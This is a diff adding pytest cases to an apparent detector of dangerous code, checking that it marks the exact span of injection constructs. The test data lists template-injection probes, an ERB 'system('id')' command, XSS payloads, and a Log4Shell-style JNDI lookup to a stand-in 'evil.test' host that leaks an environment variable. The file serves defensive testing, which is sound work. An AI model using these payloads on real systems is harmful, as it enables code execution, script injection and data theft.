@@ -79,6 +79,33 @@ def test_harmful_code_is_found_and_named(judge, kind, text):
     assert judge("code-danger", text).state == "fail"
 
 
+@pytest.mark.parametrize(
+    "construct",
+    [
+        "{{7*7}}",
+        "{{ ''.__class__.__mro__ }}",
+        "{{ 7*7|f({'a': 1}) }}",
+        "${7*7}",
+        "${jndi:ldap://${env:X}.evil.test/a}",
+        "#{7*7}",
+        "<%= system('id') %>",
+        "<img src=x onerror=\"alert('>')\" alt=y>",
+        "<script>alert(1)</script>",
+        "javascript:alert(1)",
+    ],
+)
+def test_a_construct_is_pointed_at_up_to_where_it_ends(judge, construct):
+    text = f"say ({construct}) }} é"
+    spans = judge("code-danger", text).spans
+    assert (min(span.start for span in spans), max(span.end for span in spans)) == (5, 5 + len(construct))
+
+
+def test_a_construct_that_ends_nowhere_near_is_pointed_at_as_far_as_it_is_known(judge):
+    text = "{{7*7 " + " " * 300 + "}}"
+    (span,) = judge("code-danger", text).spans
+    assert text[span.start : span.end] == "{{7*7"
+
+
 @pytest.mark.parametrize("text", HARMLESS)
 def test_ordinary_code_and_prose_is_left_alone(judge, text):
     verdict = judge("code-danger", text)
